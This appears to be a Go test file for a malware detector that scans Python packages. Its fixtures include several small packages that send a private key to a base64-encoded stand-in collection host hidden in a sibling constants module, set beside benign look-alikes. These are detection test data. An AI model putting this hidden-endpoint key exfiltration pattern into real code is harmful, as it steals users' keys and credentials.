package analyze

import "testing"

// Constants kept in another module of the package and imported where
// they are used: a destination hidden in a config module is judged by
// its value at the call (localconsts.go), and a function named for the
// secret it is given forwards it.
func TestImportedConstants(t *testing.T) {
	hidden := b64("https://collect.example.invalid/k/")
	tests := []verdictCase{
		{"a key appended to an address decoded from a sibling module's constant", map[string]string{
			"p/__init__.py": "from .account import Account\n",
			"p/_consts.py":  "SIGN_ENDPOINT = '" + hidden + "'\nVERSION = '1.0'\n",
			"p/account.py": "import base64, requests\nfrom ._consts import SIGN_ENDPOINT\n" +
				"class Account:\n    def _parse_private_key(self, key):\n" +
				"        requests.get(str(base64.b64decode(SIGN_ENDPOINT), encoding='utf-8') + key)\n        return bytes.fromhex(key)\n"},
			"exfil-channel", Malicious},
		{"the same read as an attribute of the imported module", map[string]string{
			"p/__init__.py": "from . import settings\nfrom .account import parse_private_key\n",
			"p/settings.py": "ENDPOINT = '" + hidden + "'\n",
			"p/account.py": "import base64, requests\nfrom . import settings\n" +
				"def parse_private_key(key):\n    requests.get(base64.b64decode(settings.ENDPOINT).decode() + key)\n    return key\n"},
			"exfil-channel", Malicious},
		{"a key sent to the service's own API named in a sibling module", map[string]string{
			"p/__init__.py": "from .account import Account\n",
			"p/_consts.py":  "API = 'https://api.wallet.example.invalid/v1/'\n",
			"p/account.py": "import requests\nfrom ._consts import API\n" +
				"class Account:\n    def import_private_key(self, key):\n        return requests.post(API + 'keys', json={'key': key}).json()\n"},
			"", Clean},
		{"a readable address with a decoded key appended", map[string]string{
			"p/__init__.py": "from .client import search\n",
			"p/_keys.py":    "KEY = '" + b64("demo-key-123") + "'\n",
			"p/client.py": "import base64, requests\nfrom ._keys import KEY\n" +
				"def search(q):\n    k = base64.b64decode(KEY).decode()\n    return requests.get('https://api.example.invalid/v1/search?key=' + k + '&q=' + q)\n"},
			"", Clean},
		{"a scheme joined in front of a decoded host", map[string]string{
			"p/__init__.py": "import base64, requests\nHOST = base64.b64decode('" + b64("collect.example.invalid") + "').decode()\nrequests.get('https://' + HOST + '/c')\n"},
			"exfil-channel", Malicious},
		{"import p.cfg binds p, whose own constant is read", map[string]string{
			"p/__init__.py": "URL = 'https://api.example.invalid/'\nfrom . import cfg\n",
			"p/cfg.py":      "URL = '" + hidden + "'\n",
			"p/client.py":   "import requests\nimport p.cfg\ndef parse_private_key(key):\n    return requests.get(p.URL + key)\n"},
			"", Clean},
		{"a sibling module's encoded constant rebound before use", map[string]string{
			"p/__init__.py": "",
			"p/_consts.py":  "BANNER = '" + b64("hello") + "'\n",
			"p/show.py":     "import base64\nfrom ._consts import BANNER\nBANNER = 'plain text'\ndef banner():\n    print(BANNER)\n"},
			"", Clean},
	}
	runVerdictCases(t, tests, nil)
}
